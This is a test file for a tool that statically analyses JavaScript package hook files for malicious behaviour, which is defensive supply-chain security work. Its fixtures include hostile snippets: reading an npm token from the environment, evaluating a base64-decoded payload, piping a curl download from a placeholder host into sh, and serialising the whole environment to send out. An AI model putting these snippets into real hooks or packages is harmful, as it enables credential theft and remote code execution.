import { describe, expect, it } from 'vitest';
import { analyseJsHookFile } from './hook-js.js';

describe('analyseJsHookFile (syntax tree, never loaded)', () => {
  it('names spawn, network, credential reads and a decoded eval from the tree', () => {
    const a = analyseJsHookFile(
      [
        "import { execSync } from 'node:child_process';",
        "const https = require('https');",
        'const token = process.env.NPM_TOKEN;',
        "eval(Buffer.from(payload, 'base64').toString());",
      ].join('\n'),
    );
    expect(a.severity).toBe('critical');
    expect(a.behaviours).toEqual(
      expect.arrayContaining(['eval-decoded', 'credential-read', 'process-spawn', 'network']),
    );
    expect(a.evidence.find((e) => e.behaviour === 'credential-read')?.text).toBe('process.env.NPM_TOKEN');
  });

  it('what a regex would be fooled by: names in comments and unrelated strings do not count', () => {
    const a = analyseJsHookFile(
      "// we never require('child_process') here\nconst doc = 'see eval( in the docs';\nconsole.log('built');",
    );
    expect(a.behaviours).toEqual(['nothing-recognised']);
    expect(a.severity).toBe('low');
  });

  it('a shell line in a string literal is read as a command', () => {
    expect(analyseJsHookFile("run('curl -s https://x.example/i | sh')").behaviours).toContain('download-and-execute');
  });

  it('serialising the environment is critical; plain eval is high', () => {
    expect(analyseJsHookFile('send(JSON.stringify(process.env))').severity).toBe('critical');
    expect(analyseJsHookFile('eval(code)').behaviours).toEqual(['eval']);
  });

  it('a file the parser cannot read falls back to the text patterns', () => {
    expect(analyseJsHookFile("<<<not js>>> require('https')").behaviours).toContain('network');
  });
});
